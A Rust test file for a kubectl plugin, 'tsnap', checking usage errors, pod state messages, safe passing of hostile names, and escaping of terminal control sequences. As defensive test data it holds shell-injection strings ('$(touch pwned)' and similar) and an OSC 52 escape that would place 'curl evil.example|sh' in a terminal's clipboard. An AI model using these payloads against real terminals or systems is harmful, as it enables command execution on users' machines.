//! What the plugin is given and what it prints: bad usage is status 2 with a hint, a pod
//! that is not running is said so, hostile names and arguments reach kubectl exactly as given,
//! and what the cluster and the pod say is escaped before it is printed.

use super::*;

#[test]
fn bad_usage_is_status_2_with_a_hint() {
    let k = Cluster::new();
    for (args, says) in [
        (&[][..], "which pod?"),
        (&["web-0", "web-1"][..], "one pod at a time"),
        (
            &["web-0", "-C", "java"][..],
            "unknown option -C (tsnap's own options go after --)",
        ),
        (&["web-0", "--profile", "root"][..], "--profile is one of"),
        (&["web-0", "-n"][..], "-n needs a value"),
        (
            &["web-0", "--fetch", "/nonexistent/dir"][..],
            "no such directory",
        ),
    ] {
        let out = k.run(args);
        assert_eq!(out.status, 2, "{args:?}");
        assert!(out.stderr.contains(says), "{args:?}: {}", out.stderr);
        holds(&out.stderr, "see: kubectl tsnap --help");
    }
    assert!(k.calls().is_empty());
    let help = succeeded(k.run(&["--help"]));
    assert!(
        help.stdout.starts_with("Usage: kubectl tsnap POD"),
        "{}",
        help.stdout
    );
}

#[test]
fn a_pod_that_is_not_running_is_said_so_and_nothing_is_started() {
    let k = Cluster::new();
    k.pod("Pending", &["app"], &[]);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "pod web-0 is Pending, not Running");
    assert_eq!(k.calls().len(), 1);

    let k = Cluster::new();
    k.pod("Running", &["app", "proxy"], &["proxy"]);
    let out = k.run(&["web-0", "-c", "app", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "container app of pod web-0 is not running");
    assert_eq!(k.calls().len(), 1);

    let k = Cluster::new();
    k.pod("Running", &["app"], &["app"]);
    let out = k.run(&["web-0", "-c", "db"]);
    assert_eq!(out.status, 1);
    holds(&out.stderr, "pod web-0 has no container db");

    // A pod that does not exist: kubectl's word for it, and a hint.
    let k = Cluster::new();
    k.answer(
        "pod",
        "",
        "Error from server (NotFound): pods \"web-9\" not found\n",
        1,
    );
    let out = k.run(&["web-9", "-n", "shop"]);
    assert_eq!(out.status, 1);
    holds(
        &out.stderr,
        "Error from server (NotFound): pods \"web-9\" not found",
    );
    holds(&out.stderr, "no pod web-9 in namespace shop");
}

/// Names and arguments that would do harm if anything evaluated them.
const HOSTILE_POD: &str = "we b'0\"$(touch pwned)`touch pwned2`;x";

const HOSTILE_NS: &str = "n s;$(touch pwned3)";

const HOSTILE_CONTAINER: &str = "c'\"; touch pwned4 #";

const HOSTILE_ARGS: [&str; 9] = [
    "-C",
    "ja va",
    "$(touch pwned5)",
    ";",
    "'",
    "\"",
    "\\",
    "*",
    "-o=a b",
];

#[test]
fn hostile_names_and_arguments_reach_kubectl_exactly_as_given() {
    for shell in [None, Some("bash")] {
        // With tar.
        let k = Cluster::new();
        k.pod("Running", &[HOSTILE_CONTAINER], &[HOSTILE_CONTAINER]);
        k.answer("probe", PROBE_OK, "", 0)
            .answer("tsnap", "out\n", "", 0);
        let mut args = vec![HOSTILE_POD, "-n", HOSTILE_NS, "-c", HOSTILE_CONTAINER, "--"];
        args.extend_from_slice(&HOSTILE_ARGS);
        let out = succeeded(k.run_with(shell, &args));
        let ns = format!("--namespace={HOSTILE_NS}");
        let c = format!("--container={HOSTILE_CONTAINER}");
        let dir = "/tmp/tsnap.Ab3dE9";
        let mut tsnap = strings(&[&ns, "exec", HOSTILE_POD, &c, "--", &format!("{dir}/tsnap")]);
        tsnap.extend(strings(&HOSTILE_ARGS));
        let expected = vec![
            strings(&[&ns, "get", "pod", HOSTILE_POD, "POD"]),
            strings(&[&ns, "exec", HOSTILE_POD, &c, "--", "sh", "-c", "PROBE"]),
            strings(&[
                &ns,
                "cp",
                &k.binary("x86_64"),
                &format!("{HOSTILE_POD}:{dir}/tsnap"),
                &c,
            ]),
            tsnap,
            strings(&[&ns, "exec", HOSTILE_POD, &c, "--", "rm", "-rf", "--", dir]),
        ];
        assert_eq!(shapes(&k.calls()), expected, "{shell:?}: {}", out.stderr);
        assert_eq!(out.stdout, "out\n");

        // In an ephemeral container.
        let k = Cluster::new();
        k.distroless("out\n", 0);
        k.pod("Running", &[HOSTILE_CONTAINER], &[HOSTILE_CONTAINER]);
        let mut args = vec![
            HOSTILE_POD,
            "--namespace",
            HOSTILE_NS,
            "--container",
            HOSTILE_CONTAINER,
            "--image",
            IMAGE,
            "--",
        ];
        args.extend_from_slice(&HOSTILE_ARGS);
        let out = succeeded(k.run_with(shell, &args));
        let calls = k.calls();
        let name = debug_name(&calls);
        let mut debug = strings(&[
            &ns,
            "debug",
            HOSTILE_POD,
            "--quiet",
            &format!("--image={IMAGE}"),
            &format!("--target={HOSTILE_CONTAINER}"),
            &format!("--container={name}"),
            "--profile=general",
            "--",
            "/tsnap",
        ]);
        debug.extend(strings(&HOSTILE_ARGS));
        assert_eq!(shapes(&calls)[2], debug, "{shell:?}");
        assert_eq!(
            shapes(&calls)[4],
            strings(&[
                &ns,
                "logs",
                "--follow",
                HOSTILE_POD,
                &format!("--container={name}")
            ])
        );
        assert_eq!(out.stdout, "out\n");
    }
}

/// OSC 52: a terminal that obeys it puts `curl evil.example|sh` into the clipboard.
const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07";

/// Fails if `text` (what the plugin printed on `stream`) holds a byte or character a terminal
/// would act on: a control byte but newline and tab, a C1 control, a bidi control.
fn nothing_for_a_terminal(text: &str, stream: &str) {
    let bad = text.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    });
    assert_eq!(bad, None, "{stream}: {text:?}");
}

#[test]
fn what_the_cluster_and_the_pod_say_is_escaped_before_it_is_printed() {
    // The node's architecture, as the container's uname answers it, in the error message.
    let k = Cluster::new();
    k.with_tar(&format!("tsnap-probe ok x86_64{OSC52} /tmp/tsnap.Ab3dE9\n"));
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 1, "{}", out.stderr);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(
        &out.stderr,
        "container app runs on x86_64\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07, and there is no",
    );

    // kubectl's own message, and the names of the pod's containers.
    let k = Cluster::new();
    let message = format!("Error from server (NotFound): pods \"web\u{202e}0{OSC52}\" not found\n");
    k.answer("pod", "", &message, 1);
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 1);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(&out.stderr, "pods \"web\\u{202e}0\\x1b]52;c;");
    let k = Cluster::new();
    let evil = format!("side{OSC52}");
    k.pod("Running", &[&evil, "app"], &[&evil, "app"]);
    k.answer("probe", "", NO_SHELL, 1);
    let out = k.run(&["web-0"]);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(
        &out.stderr,
        "the pod has 2 containers: looking into side\\x1b]52;c;",
    );

    // What comes out of the container (whose /tmp its user may write: the binary run there
    // may not be tsnap), on both streams, with its exit status.
    let k = Cluster::new();
    k.with_tar(PROBE_OK)
        .answer("tsnap", "", &format!("warning{OSC52}\n"), 3);
    std::fs::write(k.dir.0.join("tsnap.out"), b"row \xff\xc2\x9b\x1b[2J\tend\n").unwrap();
    let out = k.run(&["web-0"]);
    assert_eq!(out.status, 3, "{}", out.stderr);
    nothing_for_a_terminal(&out.stdout, "stdout");
    nothing_for_a_terminal(&out.stderr, "stderr");
    assert_eq!(out.stdout, "row \\xff\\u{9b}\\x1b[2J\tend\n");
    holds(
        &out.stderr,
        "warning\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\n",
    );

    // An ephemeral container's logs, and the kubelet's message about it.
    let k = Cluster::new();
    k.distroless(&format!("threads: 1{OSC52}\n"), 0);
    let out = succeeded(k.run(&["web-0", "--image", IMAGE]));
    nothing_for_a_terminal(&out.stdout, "stdout");
    holds(&out.stdout, "threads: 1\\x1b]52;c;");
    let k = Cluster::new();
    k.distroless("", 0);
    let waiting =
        format!("waiting\tErrImagePull\tpull failed{OSC52}\u{2066}\nrunning\t\nterminated\t\n");
    k.answer("state.1", &waiting, "", 0);
    let out = k.run(&["web-0", "--image", IMAGE]);
    assert_eq!(out.status, 1);
    nothing_for_a_terminal(&out.stderr, "stderr");
    holds(&out.stderr, "ErrImagePull: pull failed\\x1b]52;c;");
    holds(&out.stderr, "\\u{2066}");
}
